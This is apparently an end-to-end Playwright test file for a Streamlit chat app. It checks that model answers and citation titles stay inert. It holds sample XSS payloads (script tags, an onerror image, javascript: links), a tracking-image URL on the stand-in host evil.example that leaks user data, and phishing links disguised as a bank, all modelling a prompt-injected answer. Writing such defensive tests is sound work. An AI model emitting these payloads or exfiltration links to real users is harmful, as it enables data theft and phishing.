"""In Chromium: model output loads nothing by itself, its links show their host, HTML and javascript: are inert.

Streamlit already drops raw HTML and javascript: hrefs; these tests check our own rewriting (lib/markup): a
tracking image never reaches its host, a link that hides its host shows it, a javascript: link is no link.
"""

from __future__ import annotations

from pathlib import Path
from urllib.parse import urlsplit

from playwright.sync_api import Page, Route, expect

from tests.e2e.actions import send_message, wait_idle
from tests.fake_openai import FakeOpenAI, Message, Reply, Text, file_citation, url_citation

EVIL = "evil.example"
TRACKER = f"https://{EVIL}/pixel.png?q=the+user+said+their+salary"

ATTACKS = "\n\n".join(
    [
        "Before the attacks.",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        f"[tracker]: https://{EVIL}/ref.png\nYour chart: ![chart]({TRACKER}) and a reference one ![logo][tracker]",
        f"Log in at [https://bank.example/login](https://{EVIL}/login) today.",
        "After the attacks.",
    ]
)


def block_evil(page: Page) -> list[str]:
    """Every request the page makes to the attacker's host (answered 404 here, never sent out)."""
    reached: list[str] = []

    def refuse(route: Route) -> None:
        reached.append(route.request.url)
        route.fulfill(status=404, body="")

    page.route(lambda url: urlsplit(url).hostname == EVIL, refuse)
    return reached


def ask(page: Page, app_url: str, prompt: str) -> list[str]:
    """Open the app, send a prompt, wait for the answer; returns the dialogs that fired (none, we hope)."""
    dialogs: list[str] = []

    def record(dialog) -> None:  # noqa: ANN001 - playwright Dialog
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", record)
    page.goto(app_url)
    wait_idle(page)
    send_message(page, prompt)
    return dialogs


def assert_inert(page: Page, dialogs: list[str]) -> None:
    page.wait_for_timeout(500)  # give an onerror handler, had one been created, time to run
    assert dialogs == []
    scripts = page.locator("script").evaluate_all("els => els.filter(e => e.textContent.includes('alert(')).length")
    assert scripts == 0
    assert page.locator("[onerror], iframe[srcdoc], object, embed").count() == 0
    assert page.locator("a[href^='javascript:' i], a[href^='data:' i]").count() == 0


def test_an_answer_loads_nothing_and_its_links_show_their_host(
    page: Page, app_url: str, fake: FakeOpenAI, tmp_path: Path
) -> None:
    fake.queue(Text(ATTACKS))
    reached = block_evil(page)
    dialogs = ask(page, app_url, f"Say something dangerous ![me]({TRACKER}&from=prompt)")
    assistant = page.get_by_test_id("stChatMessage").nth(1)
    expect(assistant).to_contain_text("After the attacks.", timeout=20_000)
    wait_idle(page)
    assert_inert(page, dialogs)
    page.wait_for_timeout(500)  # an <img>, had one been drawn, has started loading by now
    assert reached == []
    assert page.get_by_test_id("stChatMessage").locator("img").count() == 0
    # The images are links whose text names the host they would load from.
    chart = assistant.get_by_role("link", name=f"🖼 chart ({EVIL})")
    expect(chart).to_be_visible()
    assert urlsplit(chart.get_attribute("href") or "").hostname == EVIL
    expect(assistant.get_by_role("link", name=f"🖼 logo ({EVIL})")).to_be_visible()
    # A link whose text is another address shows where it really goes.
    bank = assistant.get_by_role("link", name=f"https://bank.example/login ({EVIL})")
    expect(bank).to_be_visible()
    assert urlsplit(bank.get_attribute("href") or "").hostname == EVIL
    # A javascript: link is plain text, not a link with its href removed.
    expect(assistant.get_by_text("click", exact=True)).to_be_visible()
    assert assistant.locator("a", has_text="click").count() == 0
    page.screenshot(path=tmp_path / "injection-answer.png", full_page=True)


def test_file_names_and_citation_titles_are_inert(page: Page, app_url: str, fake: FakeOpenAI, tmp_path: Path) -> None:
    text = "The report says yes."
    fake.queue(
        Reply(
            Message(
                text,
                annotations=(
                    file_citation("file-abc", "<img src=x onerror=alert(2)>report.pdf", len(text)),
                    url_citation("javascript:alert(3)", "<script>alert(4)</script>", 0, 10),
                    url_citation("https://example.com/ok", "[evil](javascript:alert(5))", 0, 10),
                    url_citation(f"https://{EVIL}/phish", "https://bank.example", 0, 10),
                ),
            )
        )
    )
    reached = block_evil(page)
    dialogs = ask(page, app_url, "Cite your sources")
    assistant = page.get_by_test_id("stChatMessage").nth(1)
    expect(assistant).to_contain_text("report.pdf", timeout=20_000)
    wait_idle(page)
    assert_inert(page, dialogs)
    assert assistant.locator("img").count() == 0 and reached == []
    expect(assistant.get_by_role("link", name=f"https://bank.example ({EVIL})")).to_be_visible()
    page.screenshot(path=tmp_path / "injection-citations.png", full_page=True)
